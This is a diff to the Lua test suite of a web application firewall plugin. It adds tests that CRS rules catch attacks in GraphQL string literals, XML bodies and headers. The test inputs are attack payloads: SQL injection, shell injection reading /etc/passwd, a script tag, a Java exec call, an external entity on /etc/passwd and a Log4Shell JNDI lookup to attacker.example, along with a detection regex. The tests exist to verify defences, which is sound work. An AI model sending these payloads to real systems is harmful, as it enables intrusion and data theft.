@@ -60,10 +60,10 @@ describe("seclang reader", function()
 
   it("lists unsupported constructs with file:line; the plugin logs them or refuses the config", function()
     local p = tmpfile('SecRule ARGS "@rbl example.org" "id:1,phase:2,pass"\n'
-      .. 'SecRule XML:/* "@rx a" "id:2,phase:2,pass,t:md5"\n')
+      .. 'SecRule XML:/a/b|XML:/* "@rx a" "id:2,phase:2,pass,t:md5"\n')
     local set = assert(seclang.load({ p }))
-    assert.are.same({ p .. ":1: operator @rbl", p .. ":2: variable XML (no XML body processor: XML "
-      .. "bodies are inspected as REQUEST_BODY only)", p .. ":2: transformation t:md5" }, set.unsupported)
+    assert.are.same({ p .. ":1: operator @rbl", p .. ":2: variable XML:/a/b (XPath: only /* and //@*)",
+      p .. ":2: transformation t:md5" }, set.unsupported)
     local ok, err = pcall(T.conf, waf, { crs = p, unsupported = "refuse" })
     assert.is_false(ok)
     assert.matches("3 SecLang constructs the engine does not run", tostring(err))
@@ -517,6 +517,112 @@ describe("what the waf cannot inspect whole (CRS)", function()
     local vars = {}
     for _, m in ipairs(req.ctx.waf.matches) do vars[#vars + 1] = m.var end
     assert.is_truthy(table.concat(vars, " "):find("ARGS:2.variables.id", 1, true))
+  end)
+end)
+
+describe("GraphQL string escapes and XML bodies (CRS)", function()
+  before_each(function() T.reset() end)
+  local conf = {}
+  local function crs(pl)
+    -- (paranoia 2 through PCRE2 alone: the same verdicts, no second Hyperscan compile)
+    conf[pl] = conf[pl] or T.conf(waf, { crs = CRS, paranoia = pl, hyperscan = pl == 1 })
+    return conf[pl]
+  end
+  local function post(body)
+    return T.request({ method = "POST", uri = "/graphql", body = body, headers = headers({
+      ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
+  end
+
+  it("inspects a string literal decoded: an escaped quote or slash is refused as the plain one", function()
+    local sqli = [[{"query":"{ user(name: \"x\\u0027 OR \\u00271\\u0027=\\u00271\") { id } }"}]]
+    local shell = [[{"query":"{ user(name: \"\\u003b cat \\u002fetc\\u002fpasswd\") { id } }"}]]
+    local cases = {
+      { sqli, "ARGS:query.1", 942100 }, { shell, "ARGS:query.1", 932100 },
+      { "[" .. sqli .. "," .. sqli .. "]", "ARGS:1.query.1", 942100 },
+      -- no GraphQL document, though it starts like one: inspected whole (it has no literals)
+      { [[{"query":"{ 1' UNION SELECT password FROM users WHERE 1=1 -- }"}]], "ARGS:query", 942100 },
+      -- a """ in a comment opened a block string: the literal after it went in undecoded
+      { sqli:gsub('^{"query":"', '{"query":"# \\"\\"\\"\\n'), "ARGS:query.1", 942100 },
+    }
+    for _, pl in ipairs({ 1, 2 }) do
+      for _, case in ipairs(cases) do
+        local req = post(case[1])
+        assert.is_true(T.phase(waf, "request", req, crs(pl)), case[1])
+        local seen = {}
+        for _, m in ipairs(req.ctx.waf.matches) do seen[m.id .. " " .. m.var] = true end
+        assert.is_true(seen[case[3] .. " " .. case[2]], case[1])
+      end
+    end
+  end)
+
+  local function xml(body, ctype)
+    return T.request({ method = "POST", uri = "/soap", body = body, headers = headers({
+      ["Content-Type"] = ctype or "application/xml", ["Content-Length"] = tostring(#body) }) })
+  end
+
+  it("reads an XML body as ModSecurity's XML processor: XML:/* and XML://@*", function()
+    local cases = {
+      { "<a>1' UNION SELECT password FROM users--</a>", "XML:/*", 942100 },
+      { '<?xml version="1.0"?><r><q><![CDATA[<script>alert(1)</script>]]></q></r>', "XML:/*", 941110 },
+      { "<r><f>&#59; cat /etc/passwd</f></r>", "XML:/*", 932100 },
+      -- (944's rules read the attributes, and REQUEST_BODY too: either may be the one named)
+      { '<r x="java.lang.Runtime.getRuntime().exec(id)"/>', "", 944100 },
+    }
+    for _, pl in ipairs({ 1, 2 }) do
+      for _, case in ipairs(cases) do
+        local req = xml(case[1], "text/xml")
+        assert.is_true(T.phase(waf, "request", req, crs(pl)), case[1])
+        local seen = {}
+        for _, m in ipairs(req.ctx.waf.matches) do seen[#seen + 1] = m.id .. " " .. m.var end
+        seen = " " .. table.concat(seen, " ") .. " "
+        assert.truthy(seen:find(" " .. case[3] .. " " .. case[2], 1, true), pl .. ": " .. case[1] .. ":" .. seen)
+      end
+    end
+    -- an ordinary SOAP call passes
+    local soap = '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap='
+      .. '"http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="https://'
+      .. 'shop.example.com/prices"><m:Item>O\'Neil &amp; Sons: "Apples", 2 kg</m:Item>'
+      .. "</m:GetPrice></soap:Body></soap:Envelope>"
+    local req = xml(soap, "application/soap+xml; charset=utf-8")
+    assert.is_false(T.phase(waf, "request", req, crs(1)))
+  end)
+
+  it("refuses malformed XML as a body error, and logs why", function()
+    local req = xml("<a>1' UNION SELECT password FROM users--")
+    assert.is_true(T.phase(waf, "request", req, crs(1)))
+    local ids = {}
+    for _, m in ipairs(req.ctx.waf.matches) do ids[#ids + 1] = m.id end
+    assert.same({ 1009 }, ids)
+    local log = T.logs[#T.logs].message
+    assert.matches('1009 &body_error "1" (XML: <a> not closed at byte 41)', log, 1, true)
+    -- an external entity is never read: its reference stays as written
+    req = xml('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
+    assert.is_false(T.phase(waf, "request", req, crs(1)))
+  end)
+end)
+
+describe("Log4Shell in headers beside CRS 3.3.4 (docs/plugins/waf.md, \"Beside CRS\")", function()
+  before_each(function() T.reset() end)
+
+  it("passes CRS alone; the bundled java.lua or an inline Lua rule beside it refuses it", function()
+    local function ua_lookup(c)
+      local req = T.request({ uri = "/", headers = headers({ ["User-Agent"] = "${jndi:ldap://attacker.example/a}" }) })
+      return T.phase(waf, "request", req, c), req
+    end
+    -- (PCRE2 alone: the same verdicts, no Hyperscan compile per config)
+    for _, pl in ipairs({ 1, 2 }) do
+      assert.is_false(ua_lookup(T.conf(waf, { crs = CRS, paranoia = pl, hyperscan = false })), "PL" .. pl)
+    end
+    local refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false,
+      rule_files = { "plugins/waf/rules/java.lua" } }))
+    assert.is_true(refused)
+    assert.are.same({ 1601, "headers:user-agent" }, { req.ctx.waf.matches[1].id, req.ctx.waf.matches[1].var })
+    refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false, rules = { {
+      id = 100001, msg = "Log4Shell lookup in a header", severity = "critical",
+      targets = { "headers" }, transforms = { "urldecode", "lowercase" }, rx = [[\$\{\s*jndi\s*:]] } } }))
+    assert.is_true(refused)
+    assert.are.equal(100001, req.ctx.waf.matches[1].id)
+    assert.matches("waf: blocked GET / (score 5): 100001 headers:user-agent", T.logs[#T.logs].message, 1, true)
   end)
 end)
 
